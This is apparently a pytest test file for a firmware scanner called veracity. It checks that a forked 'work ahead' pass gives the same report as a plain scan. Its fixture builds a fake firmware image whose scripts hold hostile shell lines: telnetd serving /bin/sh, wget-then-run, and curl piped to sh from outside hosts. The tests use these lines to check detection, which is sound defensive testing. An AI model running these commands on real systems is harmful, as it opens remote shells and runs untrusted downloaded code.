"""The first tree's files worked on while unpacking goes on: the same report as without, whatever the child does."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import time
from pathlib import Path

import pytest

from veracity import ahead, inventory, parallel
from veracity.checks import malcode
from veracity.scan import scan

PARENT = os.getpid()


def _image(tmp_path: Path) -> Path:
    files: dict[str, bytes] = {
        f"etc/init.d/S{n:02d}svc": (f"#!/bin/sh\ntelnetd -l /bin/sh -p {2300 + n}\n"
                                    f"wget http://cdn{n}.example-fw.cn/u -O /tmp/u && sh /tmp/u\n").encode()
        for n in range(30)
    }
    files["etc/copy-of-S00"] = files["etc/init.d/S00svc"]  # one content in two places
    files["www/app.js"] = b"fetch('https://api.vendor-cloud.com/v1/report');\n" * 200
    files["bin/busybox"] = (b"\x7fELF" + bytes(60)) * 50 + b"BusyBox v1.36.1 http://busybox.net\x00"
    # unpacked after the first tree: what the child works on meanwhile
    files["etc/defaults.gz"] = gzip.compress(b"#!/bin/sh\ncurl -s http://update.vendor-cloud.cn/fw | sh\n")
    files["usr/share/doc/tool/notes.gz"] = gzip.compress(b"see https://docs.vendor-cloud.cn/manual\n")
    target = tmp_path / "fw.tar"
    with tarfile.open(target, "w") as tf:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755 if data.startswith(b"#!") else 0o644
            tf.addfile(info, io.BytesIO(data))
    return target


def _stable(report: dict) -> dict:
    return {k: v for k, v in report.items() if k not in ("started_at", "duration_s")}


@pytest.fixture
def worked(monkeypatch):
    """What each pass of veracity.ahead worked out: (facts, results) once it is done."""
    monkeypatch.setenv("VERACITY_NO_FORK", "0")
    monkeypatch.setattr(inventory, "PARALLEL_BYTES", 0)  # the test images are small
    seen: list[tuple[dict, dict]] = []
    real = ahead.Ahead.keep
    monkeypatch.setattr(ahead.Ahead, "keep", lambda self: seen.append((dict(self.facts), dict(self.results)))
                        or real(self))
    return seen


def _without(monkeypatch, target: Path, workdir: Path, cache: Path | None = None) -> dict:
    with monkeypatch.context() as m:
        m.setattr(ahead.Ahead, "__call__", lambda self, tree, trees, rest: rest())
        return scan(target, workdir=workdir, cache_path=cache)


def test_the_report_is_the_same_with_and_without_working_ahead(tmp_path, monkeypatch, worked):
    target = _image(tmp_path)
    alone = _without(monkeypatch, target, tmp_path / "a")
    assert worked == [({}, {})]  # nothing was worked ahead
    shared = scan(target, workdir=tmp_path / "b")
    facts, results = worked[-1]
    assert len(facts) >= 33 and {ns for ns, _ in results} >= {"malcode-file", "egress-file"}
    assert _stable(shared) == _stable(alone)
    rules = {f["rule"] for f in shared["findings"]}
    assert {"VER-MAL-005"} <= rules  # the downloaded-and-run script, inside the .gz unpacked meanwhile
    hosts = {e["host"] for e in shared["endpoints"]}
    assert "update.vendor-cloud.cn" in hosts and "docs.vendor-cloud.cn" not in hosts  # the .gz of documentation


def test_the_child_works_while_unpacking_goes_on_and_what_it_found_is_kept(tmp_path, monkeypatch, worked):
    target = _image(tmp_path)
    cache = tmp_path / "cache.sqlite"
    pids = tmp_path / "pids"
    real_task = ahead.Ahead._work

    def slow_rest(self, tree, trees, groups, rest):
        def rest_later():
            time.sleep(1.0)  # unpacking takes a while: the child starts on the shares meanwhile
            rest()
        return real_task(self, tree, trees, groups, rest_later)

    real_analyse = inventory.analyse_file

    def analyse(node, patterns):
        with pids.open("a") as fh:
            fh.write(f"{os.getpid()}\n")
        return real_analyse(node, patterns)

    monkeypatch.setattr(ahead.Ahead, "_work", slow_rest)
    monkeypatch.setattr(inventory, "analyse_file", analyse)
    first = scan(target, workdir=tmp_path / "a", cache_path=cache)
    assert worked and worked[-1][1]
    assert set(pids.read_text().split()) - {str(PARENT)}  # the child worked while unpacking went on here
    # the next scan recalls every result kept here: no file is worked on again
    calls: list[str] = []
    real_entries = malcode.MalcodeCheck._entries
    monkeypatch.setattr(malcode.MalcodeCheck, "_entries", staticmethod(
        lambda item, inv, memo, strings_memo: calls.append(item.node.path) or real_entries(item, inv, memo, strings_memo)))
    again = _without(monkeypatch, target, tmp_path / "b", cache)
    assert _stable(again)["findings"] == _stable(first)["findings"]
    assert calls == []


@pytest.mark.parametrize("trouble", ["child dies", "past the deadline", "a check breaks", "a bug in a share",
                                     "a bug before the fork"])
def test_trouble_ahead_changes_nothing(tmp_path, monkeypatch, worked, trouble):
    target = _image(tmp_path)
    alone = _without(monkeypatch, target, tmp_path / "a")
    if trouble == "child dies":
        real = inventory.analyse_file

        def analyse(node, patterns):
            if os.getpid() != PARENT:
                os._exit(9)
            return real(node, patterns)

        monkeypatch.setattr(inventory, "analyse_file", analyse)
    elif trouble == "past the deadline":
        real_init = ahead.Ahead.__init__

        def init(self, *args, **kwargs):
            real_init(self, *args, **kwargs)
            self.deadline = time.monotonic() - 1

        monkeypatch.setattr(ahead.Ahead, "__init__", init)
    elif trouble == "a check breaks":
        def broken(self, inv, part, parts):
            raise RuntimeError("boom")

        monkeypatch.setattr(malcode.MalcodeCheck, "prefetch", broken)
    else:
        def bug(*args, **kwargs):
            raise RuntimeError("a bug")

        if trouble == "a bug in a share":
            monkeypatch.setattr(ahead, "Item", bug)  # used by the pass alone
        else:
            monkeypatch.setattr(ahead.Ahead, "_groups", bug)
    report = scan(target, workdir=tmp_path / "b")
    assert _stable(report) == _stable(alone)
    facts, results = worked[-1]
    if trouble == "past the deadline":
        assert facts == {} and results == {}
    if trouble == "child dies":  # its shares were done here
        assert len(facts) >= 33 and results
    if trouble == "a check breaks":
        assert facts and "malcode-file" not in {ns for ns, _ in results}
    if trouble == "a bug in a share":  # the first file of each share was analysed, no check result came back
        assert 0 < len(facts) <= ahead.SHARES and results == {}
    if trouble == "a bug before the fork":
        assert facts == {} and results == {}


def test_no_fork_means_no_work_ahead(tmp_path, monkeypatch, worked):
    monkeypatch.setenv("VERACITY_NO_FORK", "1")
    calls: list[int] = []
    real = parallel.shared
    monkeypatch.setattr(parallel, "shared", lambda count, task, **kw: calls.append(count) or real(count, task, **kw))
    scan(_image(tmp_path), workdir=tmp_path)
    assert worked == [({}, {})] and ahead.SHARES not in calls
